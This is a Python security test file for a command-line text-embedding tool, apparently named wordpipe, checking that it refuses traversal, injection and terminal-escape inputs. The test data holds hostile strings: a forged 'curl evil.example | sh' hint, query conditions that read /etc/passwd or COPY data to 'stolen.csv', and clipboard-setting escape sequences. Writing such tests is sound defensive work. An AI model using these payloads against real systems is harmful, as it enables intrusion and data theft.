"""Hostile names, expressions, configurations and environments; what is written where; what is told; refusals before work."""

import json
import os
import threading
from collections.abc import Callable, Collection
from pathlib import Path

import pyarrow.parquet as pq

from tests.faults.case import Act, Case
from tests.faults.room import Broken, Room, contents
from tests.faults.world import World

_TEXT = "The river runs to the sea. Bees find their way by the sun. A kettle boils water for tea.\n"
_FORGED = "x\n0.9999\tFORGED ROW\tfake.txt"
_DEEP = 20_000


def _names_in_answers(room: Room) -> None:
    """A folder whose name holds line ends and tabs is one row of a piped answer like any other."""
    folder = room.work / _FORGED
    folder.mkdir()
    (folder / "a.txt").write_text(_TEXT)
    (room.work / "b.txt").write_text("Bread rises in a warm place. Salt keeps it.\n" * 3)
    for arguments in (
        ["ingest", ".", "-o", "corpus"],
        ["embed", room.world.folder / "word2vec", "corpus", "-o", "sentences"],
        ["index", "sentences", "-o", "index"],
    ):
        done = room.run(*arguments)
        if done.code:
            raise Broken(f"{arguments[0]} ended with {done.code}: {done.err[-200:]}")
    done = room.run("query", "index", "sea", "-k", "1")
    room.said(done, {0})
    lines = done.out.splitlines()
    if any(line.startswith("0.9999") for line in lines) or len(lines) != 1:
        raise Broken(f"the answer has {len(lines)} lines: {lines[:3]}")
    counts = {line.count("\t") for line in room.run("query", "index", "bread", "-k", "5").out.splitlines()}
    if len(counts) != 1:
        raise Broken(f"rows have different numbers of fields: {sorted(counts)}")


def _names_in_errors(*arguments: str) -> Act:
    def act(room: Room) -> None:
        lie = "nope\nwordpipe: error: the disk is on fire\n  hint: curl evil.example | sh"
        done = room.run(*(part.format(lie=lie, world=room.world.folder) for part in arguments))
        room.said(
            done, {0, 2, 3, 4, 5}
        )  # counts the lines that look like errors; unknown words are named beside an answer
        if "\n  hint: curl" in done.err:
            raise Broken("the hint is forged")

    return act


def _stage_name(name: str, codes: Collection[int]) -> Act:
    """A stage's name is a folder below `workdir`, or refused."""

    def act(room: Room) -> None:
        place = room.work / "project"
        place.mkdir()
        (place / "a.txt").write_text(_TEXT)
        shown = name.format(elsewhere=room.folder / "elsewhere")
        config = f'workdir = "run"\n[stage.{json.dumps(shown)}]\ncommand = "ingest"\ninputs = ["a.txt"]\n'
        (place / "wordpipe.toml").write_text(config)
        inside = ("work/project/run/", "work/project/wordpipe.toml", "work/project/a.txt")
        before = {path for path in contents(room.folder) if not path.startswith(inside)}
        for command in ("run", "status"):
            room.said(room.run(command, place / "wordpipe.toml"), codes)
        outside = {path for path in contents(room.folder) if not path.startswith(inside)} - before
        if outside:
            raise Broken(f"written: {sorted(outside)[:3]}")

    return act


def _config(text: str, codes: Collection[int], *arguments: str) -> Act:
    def act(room: Room) -> None:
        (room.work / "wordpipe.toml").write_text(text)
        (room.work / "a.txt").write_text(_TEXT)
        room.said(room.run(*arguments, "wordpipe.toml"), codes)

    return act


def _asked(where: str, codes: Collection[int]) -> Act:
    """A condition of `query`."""

    def act(room: Room) -> None:
        done = room.run("query", room.world.folder / "index", "bees", "--where", where, "--json", seconds=60)
        room.said(done, codes)
        if "root:" in done.out:
            raise Broken("it read another file")

    return act


def _environment(*arguments: str, codes: Collection[int], **variables: str) -> Act:
    def act(room: Room) -> None:
        done = room.run(*(part.format(world=room.world.folder) for part in arguments), **variables)
        room.said(done, codes)

    return act


def _long(*arguments: str, codes: Collection[int]) -> Act:
    """An error about long input is short."""

    def act(room: Room) -> None:
        done = room.run(*(part.format(world=room.world.folder) for part in arguments))
        room.said(done, codes)

    return act


def _export_over(kind: str) -> Act:
    """A file that `export` did not make is not replaced, unless that is asked for."""

    def act(room: Room) -> None:
        path = room.work / "notes.txt"
        path.write_text("my own notes\n")
        room.hold()
        command = ["export", room.world.folder / "word2vec", "--to", kind, "-o", "notes.txt"]
        room.said(room.run(*command), {2, 3, 4, 5}, names=["notes.txt"])
        room.as_before()
        forced = room.run(*command, "--force")
        if forced.code or path.read_text(errors="replace") == "my own notes\n":
            raise Broken(f"--force: exit {forced.code}: {forced.err[:200]}")

    return act


def _absolute_sources(room: Room) -> None:
    """Where a text lay on this machine is nobody's business."""
    place = room.folder / "home-of-somebody" / "texts"
    place.mkdir(parents=True)
    (place / "a.txt").write_text(_TEXT)
    done = room.run("ingest", place, "-o", "out")
    room.said(done, {0})
    hidden = "home-of-somebody"
    sources = pq.read_table(room.target / "corpus-00000.parquet", columns=["source"])["source"].to_pylist()
    if any(hidden in str(source) for source in sources):
        raise Broken(f"the rows say {sources[0]}")
    for path in room.target.iterdir():
        if hidden.encode() in path.read_bytes():
            raise Broken(f"{path.name} holds the folder's absolute name")


def _secrets(room: Room) -> None:
    """Environment, user and command line are in no file of an artifact."""
    canary = "S3CRET-CANARY-4711"
    done = room.run(*room.world.command("ingest"), "-o", "out", API_TOKEN=canary, USER=canary, HOSTNAME=canary)
    room.said(done, {0})
    room.fired += 1
    for path in room.target.rglob("*"):
        if path.is_file() and canary.encode() in path.read_bytes():
            raise Broken(f"{path.name} holds it")
    room.made("ingest")


def _terminal(room: Room) -> None:
    """Text of a corpus cannot steer the terminal that it is shown on."""
    hostile = "\x1b]52;c;aGVsbG8=\x07 \x1b[2J \x9b31m \x1b]0;title\x07"
    (room.work / "a.txt").write_text(f"The sea {hostile} is deep and wide.\n" + _TEXT * 20 + f"Bees {hostile} fly.\n")
    chain = (
        ["ingest", "a.txt", "-o", "corpus"],
        ["embed", room.world.folder / "word2vec", "corpus", "-o", "sentences"],
        ["index", "sentences", "-o", "index"],
    )
    for arguments in chain:
        if (done := room.run(*arguments)).code:
            raise Broken(f"{arguments[0]} ended with {done.code}: {done.err[-200:]}")
    leader, follower = os.openpty()
    shown = bytearray()

    def read() -> None:
        try:
            while block := os.read(leader, 4096):
                shown.extend(block)
        except OSError:
            pass  # the other end is closed

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    terminal = os.ttyname(follower)
    for arguments in (
        ["query", "index", "sea"],
        ["show", "corpus", "--rows", "2"],
        ["query", "index", "sea", "--explain"],
    ):
        done = room.run(*arguments, outputs={1: terminal, 2: terminal})
        room.fired += 1
        if done.code:
            raise Broken(f"{arguments[0]} ended with {done.code}: {bytes(shown)[-200:]!r}")
    os.close(follower)
    reader.join(5)
    os.close(leader)
    if not shown:
        raise Broken("nothing was shown")
    for sequence in (b"\x1b]52", b"\x1b[2J", b"\x9b31m", b"\x1b]0;", "\x9b31m".encode()):
        if sequence in shown:
            raise Broken(f"the terminal was sent {sequence!r}")


def _planted(what: str) -> Act:
    """Links and folders that somebody put where we write: never followed."""

    def act(room: Room) -> None:
        treasure = room.folder / "treasure"
        treasure.mkdir()
        (treasure / "file").write_text("mine\n")
        if what == "lock":
            (room.work / ".out.lock").symlink_to(treasure / "file")
        elif what == "temporary":
            (room.work / f".out.{'0' * 16}.tmp").symlink_to(treasure)
        elif what == "partial":
            (room.work / ".out.partial").symlink_to(treasure)
        elif what == "output":
            room.target.symlink_to(treasure)
        elif what == "output-file":
            room.target.write_text("mine\n")
        before = contents(treasure)
        done = room.run(*room.world.command("mlm"), "-o", "out")
        room.said(done, {0, 2, 4, 5})
        room.fired += 1
        if contents(treasure) != before or (what == "output-file" and room.target.read_text() != "mine\n"):
            raise Broken("what the link named was touched")

    return act


def _refused_before_work(make: Callable[[Path, Path], list[object]], codes: Collection[int]) -> Act:
    """A bad output or a bad second input is refused while nothing was worked on yet."""

    def act(room: Room) -> None:
        arguments = make(room.work, room.world.folder)
        phases = room.folder / "phases"
        done = room.run(*arguments, phases=phases)
        room.fired += done.code != 0
        room.said(done, codes)
        told = set(phases.read_text().splitlines()) - {"note"} if phases.exists() else set()
        if worked := {phase for phase in told if phase not in ("checking", "checking files", "reading")}:
            raise Broken(f"refused after the work: {sorted(worked)}")

    return act


def _file(work: Path, name: str, text: str) -> str:
    (work / name).write_text(text)
    return str(work / name)


_TRANSFORMER = ["--preset", "tiny", "--steps", "2", "--batch-size", "4", "--device", "cpu"]
_LATE: dict[str, tuple[Callable[[Path, Path], list[object]], Collection[int]]] = {
    "map-to-a-device": (lambda _, world: ["map", world / "word2vec", "-o", "/dev/null"], {2, 4, 5}),
    "map-to-a-folder": (lambda work, world: ["map", world / "word2vec", "-o", work], {2, 4, 5}),
    "teacher-missing": (
        lambda _, world: [
            "train",
            "contrastive",
            world / "tokenize",
            *_TRANSFORMER,
            "--set",
            'teacher="nowhere"',
            "-o",
            "out",
        ],
        {2, 3, 4},
    ),
    "teacher-of-another-kind": (
        lambda _, world: [
            "train",
            "contrastive",
            world / "tokenize",
            *_TRANSFORMER,
            "--set",
            f'teacher="{world / "ingest"}"',
            "-o",
            "out",
        ],
        {2, 3, 4},
    ),
    "pairs-missing": (
        lambda _, world: ["train", "static", world / "tokenize", "--pairs", "nowhere.jsonl", "-o", "out"],
        {2, 3, 4},
    ),
    "pairs-without-texts": (
        lambda work, world: [
            "train",
            "static",
            world / "tokenize",
            "--pairs",
            _file(work, "p.jsonl", '{"a": 1}\n'),
            "-o",
            "out",
        ],
        {2, 3, 4},
    ),
    "pairs-a-folder": (
        lambda work, world: ["train", "static", world / "tokenize", "--pairs", work, "-o", "out"],
        {2, 3, 4, 5},
    ),
    "static-to-a-file": (
        lambda work, world: ["train", "static", world / "tokenize", "-o", _file(work, "mine", "x")],
        {2, 4, 5},
    ),
    "mlm-to-a-file": (
        lambda work, world: ["train", "mlm", world / "tokenize", "-o", _file(work, "mine", "x")],
        {2, 4, 5},
    ),
    "mlm-init-missing": (
        lambda _, world: ["train", "mlm", world / "tokenize", "--init", "nowhere", "-o", "out"],
        {2, 3, 4},
    ),
    "embed-to-a-file": (
        lambda work, world: ["embed", world / "mlm", world / "ingest", "-o", _file(work, "mine", "x")],
        {2, 4, 5},
    ),
    "index-to-a-file": (lambda work, world: ["index", world / "embed", "-o", _file(work, "mine", "x")], {2, 4, 5}),
}


def cases(world: World) -> list[Case]:
    """The table of this file."""
    fast = {"map-to-a-device", "teacher-missing"}
    table = [
        Case(f"security/refused-late/{name}", _refused_before_work(*row), ("10", "C22"), fast=name in fast)
        for name, row in _LATE.items()
    ]
    errors = {
        "ingest": ("ingest", "{lie}", "-o", "out"), "query": ("query", "{lie}", "bees"), "show": ("show", "{lie}"),
        "status": ("status", "{lie}"),
        "stage": ("run", "{lie}"), "word": ("query", "{world}/word2vec", "{lie}"),
    }  # fmt: skip
    for name, arguments in errors.items():
        act = _names_in_errors(*arguments)
        table.append(
            Case(f"security/names-in-errors/{name}", act, ("40", "C3", "P10"), fast=name == "ingest", prepared=True)
        )
    out, odd = {2, 5}, {0, 2, 5}  # names that lead out are refused; odd ones may be folders
    stage_names = {
        "{elsewhere}": out,
        "../../../elsewhere": out,
        "a/../../b": out,
        "..": out,
        "a\nb": odd,
        "a\0b": out,
        "": odd,
        ".": odd,
        "a/b/../../../c": out,
    }
    for name, codes in stage_names.items():
        label = repr(name).replace("/", "|")
        table.append(
            Case(
                f"security/stage-name/{label}",
                _stage_name(name, codes),
                ("38", "C4", "P7"),
                fast="elsewhere}" in name,
                prepared=True,
            )
        )
    tomls = {
        "deep-lists": "x = " + "[" * _DEEP + "]" * _DEEP,
        "deep-tables": "x = " + "{a = " * _DEEP + "1" + "}" * _DEEP,
        "long-number": "x = " + "9" * 5_000,
        "long-key": "a" * 100_000 + " = 1",
        "binary": "\x00\x01\x02",
        "not-toml": "[[[",
        "empty": "",
        "date": "stage = 1979-05-27",
        "long-setting": '[stage.a]\ncommand = "ingest"\ninputs = ["a.txt"]\nvalid = ' + "9" * 4_000,
        "circle": '[stage.a]\ncommand = "tokenize"\ninputs = ["b"]\n[stage.b]\ncommand = "tokenize"\ninputs = ["a"]\n',
    }
    for name, text in tomls.items():
        for command in ("status", "run"):
            act = _config(text, {2}, command)
            table.append(
                Case(
                    f"security/toml/{name}/{command}",
                    act,
                    ("C9", "C18"),
                    fast=(name, command) == ("deep-lists", "status"),
                    prepared=True,
                )
            )
    wheres = {
        "nested-case": "CASE WHEN " * 500 + "true" + " THEN true ELSE false END" * 500,
        "nested-brackets": "(" * 3_000 + "true" + ")" * 3_000,
        "nested-not": "NOT " * 5_000 + "true",
        "long": "text = '" + "x" * 80_000,
        "long-or": " OR ".join(["row = 1"] * 3_000),
        "reads": "(SELECT count(*) FROM read_text('/etc/passwd')) > 0",
        "copies": "1=1; COPY (SELECT 1) TO 'stolen.csv'",
        "environment": "getenv('HOME') = ''",
        "huge": "repeat('a', 1000000000) = ''",
        "attaches": "1=1; ATTACH 'x.db'",
        "nul": "text = 'a\\u0000b",
        "unclosed": "text = 'a",
        "empty": "",
        "comment": "true -- and",
        "union": "true UNION SELECT 1",
    }
    for name, where in wheres.items():
        table.append(
            Case(
                f"security/where/{name}",
                _asked(where, {0, 2, 3}),
                ("40", "C7", "C18", "P7"),
                fast=name in ("nested-case", "reads"),
                prepared=True,
            )
        )
    longs = {
        "where": (("query", "{world}/index", "bees", "--where", "no_such = '" + "x" * 80_000 + "'"), {2}),
        "setting": (("train", "mlm", "{world}/tokenize", "-o", "out", "--set", "steps=" + "9" * 4_000), {2}),
        "option": (("index", "{world}/embed", "-o", "out", "--type", "x" * 80_000), {2}),
        "file": (("ingest", "x" * 80_000, "-o", "out"), {2, 3, 5}),
        "artifact": (("show", "y" * 80_000), {2, 3, 4, 5}),
        "word": (("query", "{world}/word2vec", "z" * 80_000), {1, 3}),
        "command": (("c" * 80_000,), {2}),
    }
    for name, (arguments, codes) in longs.items():
        table.append(
            Case(f"security/long/{name}", _long(*arguments, codes=codes), ("C18",), fast=name == "where", prepared=True)
        )
    mlm = ("train", "mlm", "{world}/tokenize", "--config", "{world}/tiny.toml", "-o", "out")
    variables: dict[str, dict[str, str]] = {
        "world-size-a-word": {"WORLD_SIZE": "x"},
        "world-size-negative": {"WORLD_SIZE": "-2"},
        "world-size-alone": {"WORLD_SIZE": "2"},
        "rank-a-word": {"WORLD_SIZE": "2", "RANK": "x"},
        "failpoint-odd": {"WORDPIPE_FAILPOINT": "*:explode"},
        "failpoint-nth": {"WORDPIPE_FAILPOINT": "*:kill:x"},
        "failpoint-empty": {"WORDPIPE_FAILPOINT": ""},
        "threads-a-word": {"OMP_NUM_THREADS": "x", "GOMP_SPINCOUNT": "x"},
        "columns": {"COLUMNS": "x", "LINES": "-1"},
        "no-home": {"HOME": "/nowhere", "XDG_CACHE_HOME": ""},
        "tmpdir": {"TMPDIR": "/nowhere"},
        "term": {"TERM": "\x1b[2J"},
    }
    for name, more in variables.items():
        act = _environment(*mlm, codes={0, 2}, **more)
        table.append(
            Case(f"security/environment/{name}", act, ("C21",), fast=name == "world-size-a-word", prepared=True)
        )
    planted = ("lock", "temporary", "partial", "output", "output-file")
    table += [Case(f"security/planted/{what}", _planted(what), ("38", "P7"), fast=what == "lock") for what in planted]
    table += [
        Case("security/names-in-answers", _names_in_answers, ("40", "C3", "P10"), fast=True, prepared=True),
        Case("security/absolute-sources", _absolute_sources, ("40", "P10"), fast=True, prepared=True),
        Case("security/secrets", _secrets, ("40", "P10"), fast=True),
        Case("security/terminal", _terminal, ("40", "P10"), fast=True),
        Case("security/export-over/word2vec-text", _export_over("word2vec-text"), ("P6",), fast=True, prepared=True),
        Case("security/export-over/glove", _export_over("glove"), ("P6",), prepared=True),
    ]
    return table
